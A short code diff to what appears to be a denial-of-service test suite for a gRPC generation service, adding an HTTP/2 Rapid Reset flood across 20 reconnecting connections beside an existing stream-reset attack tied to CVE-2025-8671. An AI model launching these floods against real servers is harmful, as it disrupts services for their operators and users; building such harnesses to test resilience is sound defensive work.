@@ -55,6 +55,13 @@ def rapid_reset_unary(driver: Driver) -> None:
 
 
 @attack("grpc", pace="flood")
+def rapid_reset_together(driver: Driver) -> None:
+    """Opens generations and resets each in the same breath, on 20 connections that are left and made anew."""
+    bursts = _calls("TextGenerate", h2.generation(_LONG), bytes((h2.RST_STREAM, 0, 0, 0, 8)))
+    driver.play(lambda: _script(bursts), 20, hang_up=True)
+
+
+@attack("grpc", pace="flood")
 def made_you_reset(driver: Driver) -> None:
     """Opens generations and has the server reset each, by a window that grows too far (CVE-2025-8671)."""
     overflow = bytes((h2.WINDOW_UPDATE, 0x7F, 0xFF, 0xFF, 0xFF))
